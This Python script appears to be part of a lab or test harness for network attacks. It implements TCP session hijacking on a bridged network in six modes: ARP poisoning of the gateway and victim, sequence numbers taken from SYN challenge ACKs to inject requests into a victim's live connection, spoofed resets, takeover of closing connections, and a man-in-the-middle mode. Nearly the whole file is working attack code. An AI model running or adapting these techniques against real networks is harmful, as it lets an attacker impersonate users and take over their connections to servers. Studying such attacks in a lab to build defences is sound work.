"""A neighbour on the bridge takes a connection of the victim that is open, half-open or half-closed on one side.

--how half-open   the host's answers to the victim come here: the SYN-ACK of the victim's next connection, which we take
--how inject      a SYN for a connection that is in use: the server says, in its challenge, the numbers that it expects.
                  With them a request is put into the victim's own connection
--how reset       the same numbers end the server's side alone; the victim's socket still looks open. The addresses and
                  ports are free for a connection of ours
--how deaf        the host's answers to the victim come here while the server closes: the victim never learns of it, and
                  we use its addresses and ports again (its state depends on what it was doing: FIN_WAIT, ESTABLISHED)
--how middle      the victim believes that we are the gateway, the host that we are the victim: the victim's connection
                  ends here, and one of ours goes on in its name
--how accept      the victim listens on the port. We connect to it with the server's address and port, so that the victim has
                  an ESTABLISHED socket of that pair; then we connect to the server with the victim's
"""

import os
import time

from frames import ACK, BROADCAST, FIN, MADE_UP, RST, SYN, Impostor, Loot, Wire, arguments, mac, request_for

told = arguments(
    __doc__,
    (["--how"], dict(required=True, choices=["half-open", "inject", "reset", "deaf", "middle", "accept"])),
    (["--port"], dict(type=int, required=True, help="the victim's port")),
    (["--seconds"], dict(type=float, default=3.0, help="at most so long")),
    (["--stop"], dict(default="")),
    (["--wait"], dict(action="store_true", help="the server is asked once the file of the name of --stop and .go exists")),
)
wire = Wire()
victim_mac = mac(told.victim_mac)
loot = Loot(told.role)
loot.tries = 1
request = request_for(told.role)
end = time.monotonic() + told.seconds
WRAP = 0xFFFFFFFF


def impostor(its_mac):
    return Impostor(wire, told.victim, its_mac, told.port, told.server, told.server_port)


def host_believes():
    wire.claim(told.victim, MADE_UP, wire.gateway_mac)


def poison_bridge():
    wire.arp(2, victim_mac, told.victim, victim_mac, told.victim, to=wire.gateway_mac)


def challenged(client):
    """The numbers that the server expects of the connection, if it has one: False otherwise."""
    for _ in range(4):
        poison_bridge()
        client.send(SYN)
        # Challenges are limited to two a second and connection.
        for segment in client.answers(0.55):
            if not segment:
                continue
            if segment.flags & (SYN | ACK) == SYN | ACK:
                # No such connection: the server has opened another one, for us.
                client.seq, client.ack = client.seq + 1, segment.seq + 1
                loot.notes["fresh"] = True
                return True
            if segment.flags & ACK and not segment.flags & RST:
                client.seq, client.ack = segment.ack, segment.seq
                return True
    return False


def use(client, again):
    loot.connections += 1
    loot.answer(client.ask(request, min(1.0, max(0.3, end - time.monotonic())), again))


def half_open():
    client = impostor(MADE_UP)
    host_believes()
    print("ready", flush=True)
    poisoned = time.monotonic()
    for segment in client.answers(told.seconds):
        if time.monotonic() - poisoned > 0.1:
            host_believes()
            poisoned = time.monotonic()
        if segment and segment.flags & (SYN | ACK) == SYN | ACK:
            client.seq, client.ack = segment.ack, segment.seq + 1
            use(client, host_believes)
            return


def inject():
    client = impostor(victim_mac)
    print("ready", flush=True)
    if challenged(client):
        use(client, poison_bridge)


def reset():
    client = impostor(victim_mac)
    print("ready", flush=True)
    if not challenged(client):
        return
    client.send(RST)
    loot.notes["reset"] = True
    fresh = impostor(victim_mac)
    if fresh.connect(1.0, poison_bridge):
        use(fresh, poison_bridge)


def deaf():
    """Answers for the victim what the server sends at the end, until the server has forgotten the connection."""
    client = impostor(MADE_UP)
    host_believes()
    print("ready", flush=True)
    poisoned, closed = time.monotonic(), None
    for segment in client.answers(told.seconds):
        now = time.monotonic()
        if now - poisoned > 0.1:
            host_believes()
            poisoned = now
        if closed and now - closed > 0.3:
            break
        if segment is None:
            continue
        if segment.data or segment.flags & FIN:
            client.seq = segment.ack
            client.ack = segment.seq + len(segment.data) + bool(segment.flags & FIN)
            client.send(ACK)
        if segment.flags & FIN and not closed:
            # It is through: our half closes as well, and the server has nothing left of it.
            client.send(FIN | ACK)
            closed = now
        if segment.flags & RST:
            closed = closed or now
    loot.notes["closed"] = bool(closed)
    fresh = impostor(MADE_UP)
    # Above all numbers that the connection before it has used: a server's TIME_WAIT lets it in.
    fresh.seq = (client.seq + 1_000_000) & WRAP
    if fresh.connect(1.0, host_believes):
        use(fresh, host_believes)


def middle():
    """The victim's SYN is answered here; what it then asks, it asks us."""
    def both_believe():
        host_believes()
        wire.claim(wire.gateway_ip, MADE_UP, victim_mac)

    both_believe()
    print("ready", flush=True)
    poisoned, ours = time.monotonic(), 0x12345678
    for segment in wire.segments(told.seconds):
        if time.monotonic() - poisoned > 0.1:
            both_believe()
            poisoned = time.monotonic()
        # Whatever port it is for: the host's own rules may have swapped it on the bridge.
        if not segment or segment[:3] != (told.victim, told.server, told.port):
            continue
        if segment.flags & SYN:
            back = (told.server, told.victim, told.server_port, told.port)
            wire.tcp(*back, SYN | ACK, ours, segment.seq + 1, source_mac=MADE_UP, target_mac=victim_mac)
        elif segment.flags & ACK:
            # The victim's socket is ESTABLISHED, with us. Now one of ours, in its name.
            fresh = impostor(MADE_UP)
            if fresh.connect(1.0, both_believe):
                use(fresh, both_believe)
            return


def accept():
    """The victim believes that we are the gateway, to which it sends its SYN-ACK."""
    def victim_believes():
        # Its answer to this question tells the bridge where it is, whatever an earlier attack has told it.
        wire.arp(1, wire.own_mac, wire.own_ip, b"\0" * 6, told.victim, to=BROADCAST)
        time.sleep(0.005)
        wire.claim(wire.gateway_ip, MADE_UP, victim_mac)

    here = (told.server, told.victim, told.server_port, told.port)
    there = (told.victim, told.server, told.port)
    ours, sent = 0x12345678, 0
    print("ready", flush=True)
    for segment in wire.segments(told.seconds / 2):
        if time.monotonic() - sent > 0.15:
            victim_believes()
            wire.tcp(*here, SYN, ours, 0, source_mac=MADE_UP, target_mac=victim_mac)
            sent = time.monotonic()
        # Whatever port it is for: the host's own rules may have swapped it on the bridge.
        if segment and segment[:3] == there and segment.flags & (SYN | ACK) == SYN | ACK:
            wire.tcp(*here, ACK, ours + 1, segment.seq + 1, source_mac=MADE_UP, target_mac=victim_mac)
            loot.notes["accepted"] = 1
            break
    if told.wait:
        print("accepted", flush=True)
        while not os.path.exists(told.stop + ".go") and time.monotonic() < end + 60:
            time.sleep(0.01)
    # The server is asked in any case.
    host_believes()
    fresh = impostor(MADE_UP)
    if fresh.connect(1.0, host_believes):
        use(fresh, host_believes)


{"half-open": half_open, "inject": inject, "reset": reset, "deaf": deaf, "middle": middle, "accept": accept}[told.how]()
wire.tell_the_truth(told.victim, victim_mac)
loot.print()
